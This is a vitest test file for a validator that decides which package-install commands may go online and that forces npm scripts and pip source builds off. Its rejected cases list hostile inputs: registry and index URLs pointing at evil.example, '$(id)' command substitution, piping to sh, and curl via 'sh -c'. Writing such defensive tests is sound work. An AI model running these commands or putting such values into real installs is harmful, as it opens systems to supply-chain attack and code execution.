import type { EnvironmentRecipe } from '@fixpoint/core'
import { describe, expect, it } from 'vitest'
import { installerCommands, installSteps, withoutScripts } from './install-steps.ts'

const recipe = (part: Partial<EnvironmentRecipe>): EnvironmentRecipe => ({
  toolchain: 'node',
  way: 'setup',
  manifests: ['package.json', 'package-lock.json'],
  download: [],
  scripts: [],
  directories: ['node_modules'],
  ...part,
})

describe('what may have the registry', () => {
  it.each([
    'npm ci',
    'npm install --legacy-peer-deps && npm install left-pad@1.3.0',
    'yarn',
    'yarn install --frozen-lockfile',
    'pnpm install --frozen-lockfile',
    'python3 -m venv .venv && .venv/bin/pip install -r requirements.txt',
  ])('%s', (command) => {
    expect(installerCommands(command)).toHaveLength(command.split('&&').length)
  })

  it.each([
    'npm run build',
    'npm ci; curl x',
    'npm ci | sh',
    'npm ci && make',
    'npm install --ignore-scripts=false',
    'npm install --ignore-scripts false',
    'npm install --no-ignore-s',
    'npm install --registry http://evil.example/',
    'npm ci --script-shell /workspace/sh',
    'npm exec thing',
    'npx thing',
    'pip install --index-url http://evil.example/ a',
    'pip install --only-binary none --no-binary :all: a',
    'pip install $(id)',
    'python3 setup.py install',
    'python3 -m evil',
    'python3 -m venv --prompt x /fixpoint',
    '',
  ])('not %j', (command) => {
    expect(installerCommands(command)).toBeUndefined()
  })

  it('switches scripts and source builds off whoever asks', () => {
    expect(withoutScripts(['npm', 'ci'])).toEqual(['npm', 'ci', '--ignore-scripts'])
    expect(withoutScripts(['python3', '-m', 'pip', 'install', 'a'])).toEqual(['python3', '-m', 'pip', 'install', 'a', '--only-binary', ':all:'])
  })

  it.each(['.', './pkg', '-e', 'git+https://example.test/a', 'a @ http://127.0.0.1:4873/pip/evil.tar.gz', 'a@http://x/', 'evil.tar.gz'])(
    'refuses to let pip build %j',
    (word) => {
      expect(() => withoutScripts(['.venv/bin/pip', 'install', word])).toThrow(/would build/)
    },
  )

  it('refuses the commands of a recipe that are no installer: a certificate is a file from anywhere', () => {
    expect(() => installSteps(recipe({ way: 'install', download: [['sh', '-c', 'curl x']] }))).toThrow(/not an installer/)
  })
})

describe('--setup', () => {
  it.each(['pip install pytest', 'python3 -m pip install pytest', '.venv/bin/pip install pytest'])('%s installs into the work tree', (setupCommand) => {
    const { online } = installSteps(recipe({ toolchain: 'python', setupCommand, directories: ['.venv'] }))
    expect(online).toEqual([
      ['python3', '-m', 'venv', '--system-site-packages', '.venv'],
      ['.venv/bin/pip', 'install', 'pytest', '--only-binary', ':all:'],
    ])
  })

  it('leaves an environment that its owner makes as it is', () => {
    const { online } = installSteps(recipe({ toolchain: 'python', setupCommand: 'python3 -m venv venv && venv/bin/pip install a' }))
    expect(online).toEqual([])
    const own = installSteps(recipe({ toolchain: 'python', setupCommand: 'python3 -m venv .venv && .venv/bin/pip install a' }))
    expect(own.online[0]).toEqual(['python3', '-m', 'venv', '.venv'])
  })

  it('that is a plain installer is the download, and scripts follow offline', () => {
    expect(installSteps(recipe({ setupCommand: 'npm ci' }))).toEqual({
      online: [['npm', 'ci', '--ignore-scripts']],
      offline: [['npm', 'rebuild']],
      wholeTree: false,
    })
  })
  it('that is anything else runs offline, after the download that the manifests ask for', () => {
    expect(installSteps(recipe({ setupCommand: 'make deps' }))).toEqual({
      online: [['npm', 'ci', '--ignore-scripts']],
      offline: [
        ['npm', 'rebuild'],
        ['sh', '-c', 'make deps'],
      ],
      wholeTree: true,
    })
  })
})

it('does not let npm install what another manager locked', () => {
  expect(() => installSteps(recipe({ way: 'install', manifests: ['package.json', 'pnpm-lock.yaml'], download: [['npm', 'install']] }))).toThrow(
    /pnpm-lock\.yaml/,
  )
})
